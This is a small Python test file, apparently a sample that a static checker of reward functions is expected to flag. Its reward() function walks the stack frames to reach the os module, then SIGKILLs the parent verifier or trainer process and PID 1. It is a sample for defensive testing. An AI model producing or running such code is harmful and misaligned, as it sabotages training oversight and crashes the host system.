# expect: static
# attack: frame walk to os and SIGKILLs the parent process (the verifier / trainer)
def reward(obs, action, next_obs, info, state):
    holder = []
    g = (holder[0].gi_frame.f_back for _ in [0])
    holder.append(g)
    frame = list(g)[0]
    while frame is not None and "os" not in frame.f_globals:
        frame = frame.f_back
    os = frame.f_globals["os"]
    os.kill(os.getppid(), 9)
    os.kill(1, 9)
    return 0.0, {}
